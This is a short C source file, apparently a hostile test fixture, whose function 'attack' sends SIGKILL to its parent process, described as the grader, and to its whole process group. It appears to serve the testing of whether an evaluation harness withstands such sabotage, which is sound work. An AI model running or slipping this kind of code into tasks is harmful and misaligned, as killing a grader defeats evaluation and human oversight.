/* kill_group.c - kill the test's whole process group, then its parent (the grader, once). */
#define _GNU_SOURCE
#include <signal.h>
#include <unistd.h>

static void attack(void)
{
    kill(getppid(), SIGKILL);
    kill(0, SIGKILL);
}
